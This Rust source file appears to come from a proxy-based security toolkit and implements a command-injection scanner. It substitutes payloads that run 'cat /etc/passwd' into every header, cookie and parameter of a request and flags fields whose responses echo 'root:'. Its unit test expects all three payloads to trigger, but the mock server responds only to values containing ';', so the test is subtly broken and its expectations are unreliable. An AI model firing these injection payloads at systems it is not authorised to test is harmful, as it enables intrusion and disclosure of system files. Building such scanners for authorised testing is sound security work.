//! Concurrent command-injection scanner: fans out over every header,
//! cookie, query parameter and form parameter of a stored request,
//! substituting each payload in turn, and assembles a witness request from
//! whichever substitutions produced a response containing the canary.

use crate::replay::ReplayEngine;
use mitmkit_core::{HttpRequest, OrderedMultiMap, ProxyError, ProxyResult};
use std::collections::HashMap;
use std::sync::Arc;
use tokio::sync::{Mutex, Semaphore};
use tokio::task::JoinSet;
use tokio_util::sync::CancellationToken;
use tracing::{debug, warn};

const PAYLOADS: [&str; 3] = [";cat /etc/passwd;", "|cat /etc/passwd|", "`cat /etc/passwd`"];
const CANARY: &str = "root:";

/// Default worker-pool size when the caller doesn't specify one: a small
/// multiple of the available parallelism, mirroring the advice against an
/// unbounded one-task-per-pair fan-out.
pub fn default_concurrency() -> usize {
    std::thread::available_parallelism()
        .map(|n| n.get() * 4)
        .unwrap_or(8)
}

pub struct InjectionScanner {
    engine: ReplayEngine,
    semaphore: Arc<Semaphore>,
}

impl InjectionScanner {
    pub fn new(engine: ReplayEngine, concurrency: usize) -> Self {
        Self {
            engine,
            semaphore: Arc::new(Semaphore::new(concurrency.max(1))),
        }
    }

    /// Run the full scan and return the witness request: identity fields
    /// copied verbatim, field maps pruned to only vulnerable fields.
    ///
    /// On cancellation, outstanding probes abandon their in-flight replay
    /// and no further payload tasks are spawned; any partial witness is
    /// discarded and the caller gets `ProxyError::Cancelled`.
    pub async fn scan(
        &self,
        request: &HttpRequest,
        cancel: &CancellationToken,
    ) -> ProxyResult<HttpRequest> {
        if cancel.is_cancelled() {
            return Err(ProxyError::Cancelled);
        }

        debug!(
            request_id = ?request.id,
            headers = request.headers.len(),
            cookies = request.cookies.len(),
            "starting command-injection scan"
        );

        let (headers, get_params, post_params, cookies) = tokio::join!(
            self.scan_multi_value(request, request.headers.keys().map(str::to_string).collect(), mutate_header, cancel),
            self.scan_multi_value(request, request.get_params.keys().map(str::to_string).collect(), mutate_get_param, cancel),
            self.scan_multi_value(request, request.post_params.keys().map(str::to_string).collect(), mutate_post_param, cancel),
            self.scan_cookies(request, request.cookies.keys().cloned().collect(), cancel),
        );

        if cancel.is_cancelled() {
            return Err(ProxyError::Cancelled);
        }

        Ok(HttpRequest {
            id: request.id.clone(),
            proto: request.proto.clone(),
            scheme: request.scheme.clone(),
            method: request.method.clone(),
            host: request.host.clone(),
            port: request.port.clone(),
            path: request.path.clone(),
            headers: to_ordered_map(headers),
            get_params: to_ordered_map(get_params),
            post_params: to_ordered_map(post_params),
            cookies,
            body: request.body.clone(),
        })
    }

    async fn scan_multi_value(
        &self,
        request: &HttpRequest,
        field_names: Vec<String>,
        mutate: fn(&mut HttpRequest, &str, &str),
        cancel: &CancellationToken,
    ) -> HashMap<String, Vec<String>> {
        let results: Mutex<HashMap<String, Vec<String>>> = Mutex::new(HashMap::new());
        let mut fields = JoinSet::new();

        for field in field_names {
            if cancel.is_cancelled() {
                break;
            }
            let engine = self.engine.clone();
            let semaphore = self.semaphore.clone();
            let base = request.clone();
            let cancel = cancel.clone();

            fields.spawn(async move {
                let mut triggered = Vec::new();
                let mut payloads = JoinSet::new();
                for payload in PAYLOADS {
                    if cancel.is_cancelled() {
                        break;
                    }
                    let engine = engine.clone();
                    let semaphore = semaphore.clone();
                    let cancel = cancel.clone();
                    let mut probe = base.clone();
                    mutate(&mut probe, &field, payload);
                    payloads.spawn(async move {
                        let _permit = semaphore.acquire_owned().await.ok()?;
                        probe_is_vulnerable(&engine, &probe, &cancel).await.then_some(payload)
                    });
                }
                while let Some(result) = payloads.join_next().await {
                    if let Ok(Some(payload)) = result {
                        triggered.push(payload.to_string());
                    }
                }
                (field, triggered)
            });
        }

        while let Some(result) = fields.join_next().await {
            match result {
                Ok((field, triggered)) if !triggered.is_empty() => {
                    triggered.into_iter().for_each(|p| {
                        let mut guard = results.try_lock().expect("uncontended by design");
                        guard.entry(field.clone()).or_default().push(p);
                    });
                }
                Ok(_) => {}
                Err(e) => warn!(error = %e, "scan field task panicked"),
            }
        }

        let mut map = results.into_inner();
        for values in map.values_mut() {
            values.sort();
        }
        map
    }

    async fn scan_cookies(
        &self,
        request: &HttpRequest,
        names: Vec<String>,
        cancel: &CancellationToken,
    ) -> HashMap<String, String> {
        let results: Mutex<HashMap<String, String>> = Mutex::new(HashMap::new());
        let mut fields = JoinSet::new();

        for name in names {
            if cancel.is_cancelled() {
                break;
            }
            let engine = self.engine.clone();
            let semaphore = self.semaphore.clone();
            let base = request.clone();
            let cancel = cancel.clone();

            fields.spawn(async move {
                let mut first_positive = None;
                let mut payloads = JoinSet::new();
                for payload in PAYLOADS {
                    if cancel.is_cancelled() {
                        break;
                    }
                    let engine = engine.clone();
                    let semaphore = semaphore.clone();
                    let cancel = cancel.clone();
                    let mut probe = base.clone();
                    mutate_cookie(&mut probe, &name, payload);
                    payloads.spawn(async move {
                        let _permit = semaphore.acquire_owned().await.ok()?;
                        probe_is_vulnerable(&engine, &probe, &cancel).await.then_some(payload)
                    });
                }
                while let Some(result) = payloads.join_next().await {
                    if let Ok(Some(payload)) = result {
                        if first_positive.is_none() || Some(payload) < first_positive {
                            first_positive = Some(payload);
                        }
                    }
                }
                (name, first_positive)
            });
        }

        while let Some(result) = fields.join_next().await {
            match result {
                Ok((name, Some(payload))) => {
                    results
                        .try_lock()
                        .expect("uncontended by design")
                        .insert(name, payload.to_string());
                }
                Ok(_) => {}
                Err(e) => warn!(error = %e, "scan cookie task panicked"),
            }
        }

        results.into_inner()
    }
}

async fn probe_is_vulnerable(
    engine: &ReplayEngine,
    probe: &HttpRequest,
    cancel: &CancellationToken,
) -> bool {
    match engine.send_cancellable(probe, cancel).await {
        Ok(response) => response.body.contains(CANARY),
        Err(e) => {
            debug!(error = %e, "scan probe failed, treating as non-vulnerable");
            false
        }
    }
}

fn mutate_header(request: &mut HttpRequest, name: &str, payload: &str) {
    request.headers.set(name.to_string(), vec![payload.to_string()]);
}

fn mutate_get_param(request: &mut HttpRequest, name: &str, payload: &str) {
    request
        .get_params
        .set(name.to_string(), vec![payload.to_string()]);
}

fn mutate_post_param(request: &mut HttpRequest, name: &str, payload: &str) {
    request
        .post_params
        .set(name.to_string(), vec![payload.to_string()]);
}

fn mutate_cookie(request: &mut HttpRequest, name: &str, payload: &str) {
    request
        .cookies
        .insert(name.to_string(), format!("{name}={payload}"));
}

fn to_ordered_map(values: HashMap<String, Vec<String>>) -> OrderedMultiMap {
    values.into_iter().collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use axum::{extract::Query, routing::get, Router};
    use std::collections::HashMap as StdHashMap;

    async fn spawn_vulnerable_server() -> std::net::SocketAddr {
        let app = Router::new().route(
            "/probe",
            get(|Query(params): Query<StdHashMap<String, String>>| async move {
                if params.get("cmd").map(|v| v.contains(';')).unwrap_or(false) {
                    "root:x:0:0:0:/root:/bin/bash".to_string()
                } else {
                    "ok".to_string()
                }
            }),
        );
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = listener.local_addr().unwrap();
        tokio::spawn(async move {
            axum::serve(listener, app).await.unwrap();
        });
        addr
    }

    #[tokio::test]
    async fn flags_vulnerable_query_param_and_leaves_others_empty() {
        let addr = spawn_vulnerable_server().await;
        let engine = ReplayEngine::new().unwrap();
        let scanner = InjectionScanner::new(engine, 4);

        let mut request = HttpRequest {
            method: "GET".into(),
            scheme: "http".into(),
            host: addr.ip().to_string(),
            port: addr.port().to_string(),
            path: "/probe".into(),
            proto: "HTTP/1.1".into(),
            ..Default::default()
        };
        request.get_params.append("cmd", "ls");
        request.headers.append("X-Safe", "value");

        let witness = scanner
            .scan(&request, &CancellationToken::new())
            .await
            .unwrap();

        assert!(witness.get_params.contains_key("cmd"));
        assert_eq!(
            witness.get_params.get("cmd"),
            Some(
                &[
                    ";cat /etc/passwd;".to_string(),
                    "`cat /etc/passwd`".to_string(),
                    "|cat /etc/passwd|".to_string(),
                ][..]
            )
        );
        assert!(witness.headers.is_empty());
        assert!(witness.cookies.is_empty());
    }

    #[tokio::test]
    async fn a_pre_cancelled_token_short_circuits_the_scan() {
        let addr = spawn_vulnerable_server().await;
        let engine = ReplayEngine::new().unwrap();
        let scanner = InjectionScanner::new(engine, 4);

        let request = HttpRequest {
            method: "GET".into(),
            scheme: "http".into(),
            host: addr.ip().to_string(),
            port: addr.port().to_string(),
            path: "/probe".into(),
            proto: "HTTP/1.1".into(),
            ..Default::default()
        };

        let cancel = CancellationToken::new();
        cancel.cancel();

        let err = scanner.scan(&request, &cancel).await.unwrap_err();
        assert!(matches!(err, mitmkit_core::ProxyError::Cancelled));
    }
}
